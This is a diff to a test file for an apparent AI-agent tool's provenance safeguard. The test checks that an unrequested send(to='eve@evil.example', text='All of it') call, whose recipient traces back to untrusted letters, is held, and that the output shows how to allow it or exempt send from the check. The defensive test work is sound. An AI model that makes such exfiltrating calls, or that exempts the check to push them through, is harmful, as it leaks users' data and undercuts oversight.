@@ -58,7 +58,7 @@ def test_a_call_that_nobody_asked_for_waits_and_says_how_to_allow_it(agent: str)
     assert "Held " in out
     assert 'send(to="eve@evil.example", text="All of it")' in out
     assert "to: 'eve@evil.example' comes from letters (1.1)" in out
-    assert "Allow: clew approvals allow" in out
+    assert "Allow: clew approve " in out
     hint = (
         '--set provenance.exempt=send; in an agent file: [provenance], below it exempt = ["send"]'
     )
